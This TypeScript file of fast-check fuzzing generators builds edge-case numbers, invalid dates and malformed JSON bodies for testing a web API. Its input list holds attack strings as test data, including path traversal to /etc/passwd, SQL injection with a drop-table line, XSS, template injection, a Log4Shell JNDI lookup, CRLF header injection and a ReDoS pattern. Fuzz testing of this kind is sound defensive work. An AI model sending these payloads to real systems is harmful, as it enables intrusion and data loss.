import type { CompiledRoute, DataType, WireType } from '@tessera/webapi';
import fc from 'fast-check';

/** Numbers at and beyond every edge, as texts that may stand in a query, a path or (most of them) in JSON. */
export const edgeNumber = fc.oneof(
  fc.constantFrom(
    '1e999',
    '-1e999',
    '1e308',
    '-1e308',
    '1e-400',
    '5e-324',
    '9223372036854775807',
    '9223372036854775808',
    '-9223372036854775808',
    '-9223372036854775809',
    '18446744073709551616',
    '9007199254740993',
    '2147483647',
    '2147483648',
    '-2147483649',
    '4294967296',
    '0',
    '-0',
    '-1',
    '0.1',
    '1.5',
    '.5',
    '1.',
    '+1',
    '1e0',
    '1E2',
    '0x10',
    '0b1',
    '0o7',
    'NaN',
    'Infinity',
    '-Infinity',
    'INF',
    '1,000',
    '１',
    '1_000',
    ' 1 ',
    '1\u0000',
    `1${'0'.repeat(308)}`,
    `1${'0'.repeat(5000)}`,
    `0.${'0'.repeat(5000)}1`,
    `1e${'9'.repeat(100)}`,
  ),
  fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String),
  fc.double().map(String),
);

/** Dates that exist, that do not, and that only look like some. */
export const edgeDate = fc.constantFrom(
  '1990-02-30',
  '0000-00-00',
  '9999-12-31 23:59:59',
  '10000-01-01',
  '-0001-01-01',
  '275760-09-13',
  '275760-09-14T00:00:00Z',
  '2024-02-29',
  '24:00',
  'now',
  '@9999999999999',
  '1e999-01-01',
  '31/31/1990',
  'Thu, 01 Jan 1970 00:00:00 GMT',
  '2024-01-01T00:00:00+99:99',
);

export const nasty = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 2, arbitrary: edgeNumber },
  edgeDate,
  fc.constantFrom(
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'toString',
    '../../etc/passwd',
    '%00',
    '%',
    '%zz',
    '%c0%ae',
    '\u0000',
    '\ud800',
    "' or '1'='1",
    '"; drop table customer; --',
    '<script>alert(1)</script>',
    '{{7*7}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker sends
    '${jndi:ldap://x}',
    '%s%s%n',
    'a'.repeat(5000),
    '['.repeat(300),
    '%5B'.repeat(200),
    '(a+)+$',
    '\r\nX: y',
    '💥'.repeat(50),
  ),
);

/** A JSON literal that a number may be written as: edge numbers bare where JSON allows, else in quotes. */
const jsonNumber = edgeNumber.map((text) =>
  /^-?(?:0|[1-9]\d*)(?:\.\d+)?(?:[eE][+-]?\d+)?$/.test(text) ? text : JSON.stringify(text),
);
const jsonText = nasty.map((text) => JSON.stringify(text));
const misfit = fc.oneof(
  fc.constantFrom('null', 'true', 'false', '[]', '{}', '[null]', '[[1]]', '{"0":{}}', '""'),
  jsonNumber,
  jsonText,
);
const plausible = fc.constantFrom(
  '"1"',
  '"a@example.com"',
  '"Admin123!x"',
  '"US"',
  '"default"',
  '"eq"',
  '"email"',
  '"general/store_information/name"',
  '"https://example.com/x"',
);

/** JSON text for a value of a wire type: mostly of its shape, with something wrong at any place. */
function jsonOf(type: WireType, depth: number): fc.Arbitrary<string> {
  const fitting = fittingJson(type, depth);
  return fc.oneof({ weight: 9, arbitrary: fitting }, { weight: 1, arbitrary: misfit });
}

function fittingJson(type: WireType, depth: number): fc.Arbitrary<string> {
  switch (type.kind) {
    case 'int':
    case 'float':
      return fc.oneof(fc.constantFrom('1', '2', '0'), jsonNumber);
    case 'string':
      return fc.oneof(
        plausible,
        jsonText,
        edgeDate.map((text) => JSON.stringify(text)),
      );
    case 'bool':
      return fc.constantFrom('true', 'false', '1', '"on"', '"x"');
    case 'list':
      return depth === 0
        ? fc.constant('[]')
        : fc.array(jsonOf(type.item, depth - 1), { maxLength: 3 }).map((items) => `[${items.join(',')}]`);
    case 'data':
      return depth === 0 ? fc.constant('{}') : jsonOfData(type, depth);
    default:
      return misfit;
  }
}

function jsonOfData(type: DataType, depth: number): fc.Arbitrary<string> {
  const fields = Object.entries(type.fields).map(([name, field]) =>
    fc.option(jsonOf(field.type, depth - 1).map((value) => `${JSON.stringify(name)}:${value}`)),
  );
  const custom = fc.option(
    fc
      .tuple(jsonText, misfit)
      .map(([code, value]) => `"custom_attributes":[{"attribute_code":${code},"value":${value}}]`),
  );
  return fc.tuple(...fields, ...(type.customAttributes ? [custom] : [])).map((members) => `{${present(members)}}`);
}

const present = (members: readonly (string | null)[]): string => members.filter((member) => member !== null).join(',');

/** JSON text of a body for a route, made from the declaration of its operation. */
export function bodyFor({ route }: CompiledRoute): fc.Arbitrary<string> {
  const members = Object.entries(route.operation.parameters).map(([name, { type }]) =>
    fc.option(
      jsonOf(type, 4).map((value) => `${JSON.stringify(name)}:${value}`),
      { freq: 8 },
    ),
  );
  return fc.tuple(...members).map((list) => `{${present(list)}}`);
}
